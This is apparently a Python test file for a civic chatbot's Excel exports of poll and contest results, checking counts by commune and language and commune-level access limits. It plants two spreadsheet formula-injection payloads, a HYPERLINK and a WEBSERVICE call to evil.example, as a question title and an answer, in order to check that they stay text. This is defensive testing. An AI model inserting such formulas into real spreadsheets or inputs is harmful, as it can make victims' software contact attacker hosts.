"""The results of a poll and of a contest round leave the admin as Excel sheets beside the raw rows: per
question each choice's count and share (everyone, by commune, by language), participation by commune and
the share right per question; names, never codes; an officer's file holds only their communes; text stays
text. The figures are checked against a count made here, from what each person was made to answer."""

from __future__ import annotations

import io
from collections import Counter
from collections.abc import Iterable
from typing import Any

import httpx
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from bot.accounts.models import Role
from bot.bulletins.service import Audience
from bot.contests import service as contests
from bot.contests.models import ContestQuestion, ContestRound
from bot.db import Database
from bot.people.models import Person
from bot.polls import service as polls
from bot.polls.models import QuestionKind
from tests import factories
from tests.security.test_spreadsheet_injection import formulas
from tests.test_admin import MUONG_TE, PHONG_THO, login, make_admin
from tests.test_contests import BANK, _contest, _rounds

LAI_CHAU = 12
HOSTILE = '=HYPERLINK("http://evil.example","Chợ phiên nên họp ngày nào?")'
MARKET = ("Thứ bảy", "Chủ nhật")
GOODS = ("Rau", "Thịt", "Vải")
# Who answers what: (urn, commune, language, market day, goods wanted, typed text)
PEOPLE = [
    (
        "web:" + "1" * 40,
        PHONG_THO,
        "vi",
        "Thứ bảy",
        ["Rau", "Thịt"],
        '=1+2*WEBSERVICE("http://evil.example")',
    ),
    ("web:" + "2" * 40, PHONG_THO, "en", "Chủ nhật", ["Rau"], ""),
    ("web:" + "3" * 40, MUONG_TE, "vi", "Thứ bảy", ["Vải"], "Thêm chỗ gửi xe"),
    ("web:" + "4" * 40, MUONG_TE, "en", "Chủ nhật", [], ""),
]
COMMUNES = {PHONG_THO: "Xã Phong Thổ", MUONG_TE: "Xã Mường Tè"}
LANGUAGES = {"vi": "Tiếng Việt", "en": "Tiếng Anh"}


def _market_poll(db: Database) -> int:
    """A province-wide poll (single choice, multiple choice, free text) answered by PEOPLE."""
    draft = polls.PollDraft(
        title="Chợ phiên",
        intro={},
        questions=(
            polls.QuestionDraft(QuestionKind.single, {"vi": HOSTILE}, tuple({"vi": c} for c in MARKET)),
            polls.QuestionDraft(
                QuestionKind.multiple, {"vi": "Bạn muốn chợ có thêm gì?"}, tuple({"vi": c} for c in GOODS)
            ),
            polls.QuestionDraft(QuestionKind.text, {"vi": "Bạn muốn nói gì thêm?"}),
        ),
        audience=Audience(),
    )
    with db.transaction() as session:
        poll = polls.write(session, None, draft)
        polls.open_poll(poll)
        poll_id = poll.id
    for urn, commune, language, day, goods, text in PEOPLE:
        person_id = factories.add_person(db, urn, commune=commune, province=LAI_CHAU, language=language)
        with db.transaction() as session:
            found, person = polls.get(session, poll_id=poll_id), session.get(Person, person_id)
            assert found is not None and person is not None
            response = polls.start(session, found, person, "web")
            single, multiple, typed = found.questions
            polls.answer(session, response, single, choice_ids=[_choice(single, day)])
            if goods:
                polls.answer(session, response, multiple, choice_ids=[_choice(multiple, g) for g in goods])
            if text:
                polls.answer(session, response, typed, text=text)
    return poll_id


def _choice(question: Any, label: str) -> int:
    """The id of a question's choice by its Vietnamese label."""
    return next(c.id for c in question.choices if c.texts["vi"] == label)


def _expected(people: Iterable[tuple[Any, ...]]) -> dict[tuple[int, str, str, str], tuple[int, int]]:
    """What the summary must say, counted from the plan: (question, split, group, choice) -> (answers to
    the question in that group, people who picked the choice)."""
    answers: Counter[tuple[int, str, str]] = Counter()
    picked: Counter[tuple[int, str, str, str]] = Counter()
    for _urn, commune, language, day, goods, _text in people:
        groups = [("Tất cả", "Tất cả"), ("Xã", COMMUNES[commune]), ("Ngôn ngữ", LANGUAGES[language])]
        for number, chosen in ((1, [day]), (2, goods)):
            if not chosen:
                continue
            for split, group in groups:
                answers[number, split, group] += 1
                picked.update((number, split, group, c) for c in chosen)
    labels = {1: MARKET, 2: GOODS}
    return {
        (number, split, group, c): (n, picked[number, split, group, c])
        for (number, split, group), n in answers.items()
        for c in labels[number]
    }


def _summary(book: Workbook) -> dict[tuple[int, str, str, str], tuple[int, int, float]]:
    """The summary sheet's choice rows as (question, split, group, choice) -> (answers, picked, %)."""
    rows = list(book["Tổng hợp"].iter_rows(values_only=True))
    assert rows[0] == (
        "Câu",
        "Câu hỏi",
        "Chia theo",
        "Nhóm",
        "Số trả lời",
        "Lựa chọn",
        "Số người chọn",
        "Tỉ lệ (%)",
    )
    return {(r[0], r[2], r[3], r[5]): (r[4], r[6], r[7]) for r in rows[1:] if r[5] is not None}


def _counted_from_answers(book: Workbook) -> Counter[tuple[int, str, str, str]]:
    """The raw answers sheet counted here, apart from the summary: (question, split, group, choice)."""
    counted: Counter[tuple[int, str, str, str]] = Counter()
    for row in list(book["Trả lời"].iter_rows(values_only=True))[1:]:
        number, answer, commune, language = row[1], row[3], row[5], row[7]
        if number == 3:
            continue
        for split, group in (("Tất cả", "Tất cả"), ("Xã", commune), ("Ngôn ngữ", language)):
            counted.update((number, split, group, c) for c in str(answer).split("; "))
    return counted


def _download(client: httpx.Client, url: str) -> tuple[bytes, Workbook]:
    """An export as bytes and as a workbook, after checking it is one."""
    response = client.get(url)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    return response.content, load_workbook(io.BytesIO(response.content))


def test_a_polls_summary_sheet_counts_each_choice_overall_by_commune_and_by_language(
    client: httpx.Client, db: Database
) -> None:
    poll_id = _market_poll(db)
    make_admin(db, "tinh")
    login(client, "tinh")
    data, book = _download(client, f"/admin/polls/{poll_id}/export.xlsx")
    assert book.sheetnames == ["Trả lời", "Tổng hợp"], "the raw answers first, the summary beside them"
    assert formulas(data) == [], "a formula typed as a question or an answer stays text"
    summary = _summary(book)
    expected = _expected(PEOPLE)
    assert {k: v[:2] for k, v in summary.items()} == expected
    assert summary[1, "Tất cả", "Tất cả", "Thứ bảy"] == (4, 2, 50.0)
    assert summary[2, "Tất cả", "Tất cả", "Rau"] == (3, 2, 66.7)
    assert summary[1, "Ngôn ngữ", "Tiếng Anh", "Chủ nhật"] == (2, 2, 100.0)
    assert summary[2, "Xã", "Xã Mường Tè", "Thịt"] == (1, 0, 0.0)
    counted = _counted_from_answers(book)
    assert {k: n for k, (_answers, n) in expected.items() if n} == dict(counted), "the raw rows agree"
    rows = list(book["Tổng hợp"].iter_rows(values_only=True))[1:]
    assert rows[0][:5] == (1, HOSTILE, "Tất cả", "Tất cả", 4), "everyone first"
    assert [r[3] for r in rows if r[0] == 1 and r[2] == "Xã"][::2] == ["Xã Mường Tè", "Xã Phong Thổ"], (
        "by name"
    )
    assert (3, "Bạn muốn nói gì thêm?", "Tất cả", "Tất cả", 2, None, None, None) in rows, "typed: a count"
    assert all(str(group) not in {str(PHONG_THO), str(MUONG_TE), "vi", "en"} for *_, group in summary)

    # An officer of Phong Thổ: only the answers of Phong Thổ, in both sheets.
    make_admin(db, "xa", Role.commune_officer, communes=(PHONG_THO,))
    login(client, "xa")
    _data, theirs = _download(client, f"/admin/polls/{poll_id}/export.xlsx")
    own = [p for p in PEOPLE if p[1] == PHONG_THO]
    assert {k: v[:2] for k, v in _summary(theirs).items()} == _expected(own)
    assert {row[5] for row in list(theirs["Trả lời"].iter_rows(values_only=True))[1:]} == {"Xã Phong Thổ"}
    cells = [c for row in theirs["Tổng hợp"].iter_rows(values_only=True) for c in row]
    assert "Xã Mường Tè" not in cells and _summary(theirs)[1, "Tất cả", "Tất cả", "Chủ nhật"] == (2, 1, 50.0)


def _take(db: Database, round_id: int, urn: str, commune: int, wrong: str | None) -> None:
    """Someone of `commune` answers the whole round, right except the question `wrong`."""
    person_id = factories.add_person(db, urn, commune=commune, province=LAI_CHAU)
    with db.transaction() as session:
        person, round_ = session.get(Person, person_id), session.get(ContestRound, round_id)
        assert person is not None and round_ is not None
        attempt = contests.start(session, round_, person, "web")
        for question_id in attempt.question_ids:
            question = session.get(ContestQuestion, question_id)
            assert question is not None
            off = question.texts["vi"] == wrong
            contests.answer(
                session, attempt, question, (question.correct + 1) % 2 if off else question.correct
            )


def test_a_rounds_sheets_count_participation_by_commune_and_the_share_right_per_question(
    client: httpx.Client, db: Database
) -> None:
    contest_id = _contest(db)
    round_id = _rounds(db, contest_id)[0]
    misread = next(iter(BANK))  # the health insurance question
    _take(db, round_id, "web:" + "a" * 40, PHONG_THO, None)
    _take(db, round_id, "web:" + "b" * 40, PHONG_THO, misread)
    _take(db, round_id, "web:" + "c" * 40, MUONG_TE, None)
    make_admin(db, "tinh")
    login(client, "tinh")
    url = f"/admin/contests/{contest_id}/rounds/{round_id}/export.xlsx"
    data, book = _download(client, url)
    assert book.sheetnames == ["Xếp hạng", "Tham gia theo xã", "Đúng từng câu"]
    assert formulas(data) == []
    assert list(book["Tham gia theo xã"].iter_rows(values_only=True)) == [
        ("Xã", "Làm xong", "Đúng tất cả", "Tỉ lệ đúng tất cả (%)"),
        ("Xã Mường Tè", 1, 1, 100.0),
        ("Xã Phong Thổ", 2, 1, 50.0),
        ("Tất cả", 3, 2, 66.7),
    ]
    shares = list(book["Đúng từng câu"].iter_rows(values_only=True))
    assert shares[0] == ("Câu hỏi", "Số lượt trả lời", "Đúng", "Tỉ lệ đúng (%)")
    assert sorted(shares[1:]) == sorted(
        (text, 3, 2, 66.7) if text == misread else (text, 3, 3, 100.0) for text in BANK
    )
    assert book["Xếp hạng"].max_row == 4, "the ranking still comes first, one row a finished attempt"

    make_admin(db, "xa", Role.commune_officer, communes=(PHONG_THO,))
    login(client, "xa")
    _data, theirs = _download(client, url)
    assert list(theirs["Tham gia theo xã"].iter_rows(values_only=True))[1:] == [
        ("Xã Phong Thổ", 2, 1, 50.0),
        ("Tất cả", 2, 1, 50.0),
    ]
    assert sorted(list(theirs["Đúng từng câu"].iter_rows(values_only=True))[1:]) == sorted(
        (text, 2, 1, 50.0) if text == misread else (text, 2, 2, 100.0) for text in BANK
    )


def test_the_dashboard_links_a_rounds_participation_to_the_round(client: httpx.Client, db: Database) -> None:
    contest_id = _contest(db)
    round_id = _rounds(db, contest_id)[0]
    _take(db, round_id, "web:" + "d" * 40, PHONG_THO, None)
    make_admin(db, "tinh")
    login(client, "tinh")
    page = client.get("/admin").text
    card = page[page.index('id="contests"') :].split("</section>")[0]
    target = f"/admin/contests/{contest_id}/rounds/{round_id}"
    assert f'<td class="num"><a href="{target}">1</a></td>' in card, "started, linked"
    assert f'<td class="num"><a href="{target}#participation">1</a></td>' in card, "finished, linked"
    behind = client.get(target)
    assert behind.status_code == 200 and 'id="participation"' in behind.text
